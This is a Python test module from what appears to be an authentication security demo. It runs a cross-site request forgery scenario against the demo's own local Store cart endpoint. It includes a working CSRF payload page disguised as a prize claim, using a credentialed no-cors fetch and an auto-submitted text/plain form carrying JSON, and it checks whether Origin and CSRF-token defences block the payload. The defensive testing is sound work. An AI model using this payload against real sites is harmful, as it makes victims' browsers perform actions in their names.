"""Cross-site request forgery against the app's state-changing endpoint.

Threat: while logged in to the Store, the victim opens the attacker's page
(evil.authgate.localhost -- a different origin but the *same site*, so even `SameSite=Strict`
cookies ride along). The page POSTs to the Store's `POST /api/cart/items` twice -- a no-cors
`fetch` with credentials and an auto-submitted `text/plain` form whose body is valid JSON -- to
put an item in the victim's cart with the victim's cookie (JWT cookie, or the BFF session id).
Stolen: nothing; the attacker acts as the victim.
What stops it: the backend refuses any `Origin` but its own on state-changing calls; bff also
requires the session's `X-CSRF-Token`, which another origin cannot read or send.
Does not apply to implicit-localstorage: the JWT travels in an `Authorization` header the SPA
adds itself; there is no ambient credential for a cross-site request to carry.
"""
from __future__ import annotations

import asyncio
import json

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import describe

ID = "09-csrf"
TITLE = "CSRF against the app's state-changing endpoint (cross-origin, same-site)"

PAGE = """<!doctype html><title>You won a prize</title><h1>Claim your prize</h1>
<form method="POST" action=TARGET_ATTR enctype="text/plain" target="sink">
<input type="hidden" name='{"productId":"socks","x":"' value='"}'></form><iframe name="sink"></iframe>
<script>
fetch(TARGET, {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'},
  body: JSON.stringify({productId: 'socks'})})
  .catch(function () {})
  .then(function () { document.forms[0].submit(); return fetch(SINK, {method: 'POST', mode: 'no-cors', body: 'sent'}); });
</script>"""


def applies(mode: str) -> str | None:
    if mode == "implicit-localstorage":
        return "no ambient credential: the JWT goes in an Authorization header the SPA sets; a cross-site request cannot add it"
    return None


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    page = await ctx.victim()
    name = "bff_session" if ctx.mode == "bff" else "app_jwt"
    cookies = {k: v for k, v in (await ctx.cookies(page.context, "store")).items() if k == name}
    before = await ctx.cart_quantity(cookies)
    tag = f"{ID}-{ctx.mode}"
    target = ctx.url("store") + "/api/cart/items"
    html = (PAGE.replace("TARGET_ATTR", json.dumps(target)).replace("TARGET", json.dumps(target))
            .replace("SINK", json.dumps(ctx.sink.collect_url(tag))))
    evil = await page.context.new_page()
    await evil.goto(ctx.sink.add_page(tag, html))
    await ctx.sink.wait_for(tag, timeout=5)
    await asyncio.sleep(0.5)  # let the form POST land
    after = await ctx.cart_quantity(cookies)
    evidence = [f"victim's cart quantity before {before}, after visiting the attacker's page {after}"]
    # What the server said, replayed outside the browser with the victim's cookie:
    body = {"productId": "socks"}
    r_evil = await ctx.attack("POST", "store", "/api/cart/items", cookies=cookies, json=body,
                              headers={"Origin": ctx.sink.origin})
    evidence.append(f"same POST with Origin {ctx.sink.origin}: {describe(r_evil)}")
    if ctx.mode == "bff":
        r_no_token = await ctx.attack("POST", "store", "/api/cart/items", cookies=cookies, json=body,
                                      headers={"Origin": ctx.url("store")})
        evidence.append(f"even with the Store's own Origin but no X-CSRF-Token: {describe(r_no_token)}")
    await ctx.attack("GET", "store", "/api/user", cookies=cookies)  # keep the session honest: still logged in?
    if before < 0 or after < 0:
        raise RuntimeError(f"could not read the victim's cart (before={before}, after={after})")
    if after > before:
        return succeeded(stolen="nothing: the attacker added to the victim's cart as the victim",
                         usable_for="as long as the victim's cookie lives",
                         mitigation="missing Origin / CSRF-token check", evidence=evidence)
    mitigation = "Origin check on every state-changing call"
    if ctx.mode == "bff":
        mitigation += " + the BFF's X-CSRF-Token (synchronizer token)"
    return blocked(mitigation, evidence)
